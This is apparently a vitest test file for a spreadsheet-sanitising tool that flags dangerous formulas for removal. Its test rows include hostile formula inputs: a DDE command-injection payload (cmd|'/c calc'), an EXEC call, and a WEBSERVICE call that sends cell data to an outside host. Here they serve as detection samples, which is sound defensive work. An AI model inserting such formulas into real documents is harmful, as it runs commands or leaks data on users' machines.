// SPDX-FileCopyrightText: 2026 Document Gate contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import { describe, expect, test } from 'vitest'
import { Budget } from '../../../../src/model/budget.ts'
import { defaultLimits } from '../../../../src/model/limits.ts'
import { FormulaCheck, namesIn } from '../../../../src/remedies/ooxml/formula-check.ts'

const check = (): FormulaCheck => new FormulaCheck(new Budget(defaultLimits))

const rows: readonly (readonly [formula: string, cause: string])[] = [
	['', ''],
	['SUM(A1:B2)', ''],
	['Table1[[#This Row],[1]]', ''],
	['Table1[1]', ''],
	['[0]!Name', ''],
	['"[1]Sheet!A1"&A1', 'cut-external-references cell-range'],
	["'[1]My sheet'!A1", 'cut-external-references cell-range'],
	['[12]Sheet1!$A$1+1', 'cut-external-references cell-range'],
	['[1]!Name', 'cut-external-references cell-range'],
	["'C:\\x\\[b.xlsx]S'!A1", 'cut-external-references cell-range'],
	["cmd|'/c calc'!A0", 'drop-dde dde'],
	['WEBSERVICE("http://a.example/"&A1)', 'cut-external-references formula'],
	['HYPERLINK("http://a.example")', ''],
	['HYPERLINK("\\\\host\\x")', 'cut-links link'],
	['EXEC("calc")', 'drop-macros formula'],
	['SQL.REQUEST("DSN=x")', 'cut-connections connection'],
]

describe('formulas that a copy keeps', () => {
	test.each(rows)('%s', (formula, cause) => {
		const found = check().causeOf(formula)
		expect(found === undefined ? '' : `${found.remedy} ${found.subject}`).toBe(cause)
	})
	test('the same formula a second time', () => {
		const formulas = check()
		expect(formulas.causeOf('WEBSERVICE("http://a.example/")')).toEqual(formulas.causeOf('WEBSERVICE("http://a.example/")'))
	})
	test.each([['Gone!A1', true], ["'Gone'!A1", true], ['SUM(First:Gone!A1)', true], ['SUM(Gone:Last!A1)', true], ['NotGone!A1', false], ['Gone2!A1', false], ['A1', false], ["'It''s'!A1", true]])('a sheet that went: %s', (formula, goes) => {
		const formulas = check()
		formulas.loseSheet('Gone', { remedy: 'drop-macros', subject: 'macro' })
		formulas.loseSheet("It's", { remedy: 'drop-macros', subject: 'macro' })
		expect(formulas.causeOf(formula) !== undefined).toBe(goes)
	})
	test.each([['Rate*2', true], ['rate', true], ['"Rate"', false], ['Rates', false]])('a name that went: %s', (formula, goes) => {
		const formulas = check()
		formulas.loseName('Rate', { remedy: 'cut-external-references', subject: 'cell-range' })
		expect(formulas.causeOf(formula) !== undefined).toBe(goes)
	})
	test('a DDE link may be the name of a sheet', () => {
		const formulas = check()
		expect(formulas.causeOf("'a|b'!A1")?.remedy).toBe('drop-dde')
		formulas.knowSheet('a|b')
		expect(formulas.causeOf("'a|b'!A1")).toBeUndefined()
	})
})

test('a formula longer than anybody calculates goes', () => {
	expect(check().causeOf('A1+'.repeat(6_000))).toEqual({ remedy: 'rebuild-container', subject: 'formula' })
})

test('words that may be names', () => {
	expect([...namesIn('SUM(Rate*A1,"Text")+Über.alles')]).toEqual(['sum', 'rate', 'a1', 'über.alles'])
})
